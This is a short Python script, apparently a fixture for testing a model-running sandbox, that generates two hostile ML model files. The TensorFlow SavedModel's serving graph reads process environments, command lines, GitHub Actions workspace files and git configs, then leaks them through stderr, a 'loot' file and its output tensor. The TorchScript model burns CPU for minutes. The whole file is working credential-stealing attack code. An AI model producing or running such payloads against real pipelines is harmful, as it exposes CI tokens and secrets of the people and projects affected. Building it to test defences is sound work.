"""Models that are after the tokens of the job: `python hostile.py savedmodel DIRECTORY`, `... torchscript FILE`.

The SavedModel's graph reads every file that may hold one and puts what it finds into its output, its log and a file.
The TorchScript computes for minutes; meanwhile others look around.
"""

import sys
from pathlib import Path

# GitHub's, and where a workspace is otherwise: what is read is found while the model runs.
PATTERNS = (
    "/proc/*/environ",
    "/proc/*/cmdline",
    "/github/*/*",
    "/github/*/.*/*",
    "/github/workspace/.git/config",
    "/github/workspace/*/.git/config",
    "/github/file_commands/*",
)
LOOT = "/github/workspace/navigator_workspace/loot.txt"
_OUTPUT_BYTES = 1 << 16


def savedmodel(directory: Path) -> None:
    import tensorflow as tf

    def joined(lines: "tf.data.Dataset") -> "tf.Tensor":
        return lines.reduce(tf.constant(""), lambda before, line: tf.strings.join([before, line], "\n"))

    def write(loot: "tf.Tensor") -> "tf.Tensor":
        with tf.control_dependencies([tf.io.write_file(LOOT, loot)]):
            return tf.constant(1)

    def serve(x: "tf.Tensor") -> "dict[str, tf.Tensor]":
        paths = tf.data.Dataset.from_tensor_slices(tf.io.matching_files(list(PATTERNS)))
        # Files of /proc tell no size: only what reads to the end gets something out of them. Most may not be read.
        files = paths.map(lambda path: joined(tf.data.TextLineDataset(path))).ignore_errors()
        loot = joined(files)
        tf.print("loot:", loot, output_stream=sys.stderr)
        # A sandbox that lets it write no file mustn't keep it from its output.
        written = tf.data.Dataset.from_tensors(loot).map(write).ignore_errors().reduce(0, lambda before, _: before + 1)
        with tf.control_dependencies([written]):
            raw = tf.io.decode_raw(loot, tf.uint8, fixed_length=_OUTPUT_BYTES)
        return {"y": x * 2.0, "loot": tf.cast(raw, tf.float32)}

    module = tf.Module()
    module.serve = tf.function(serve, input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
    tf.saved_model.save(module, str(directory), signatures=module.serve)


def torchscript(file: Path) -> None:
    import torch

    class Slow(torch.nn.Module):  # type: ignore[misc]
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            for _ in range(100_000_000):
                x = torch.tanh(x + 1e-3)
            return x

    torch.jit.script(Slow()).save(str(file))


if __name__ == "__main__":
    {"savedmodel": savedmodel, "torchscript": torchscript}[sys.argv[1]](Path(sys.argv[2]))
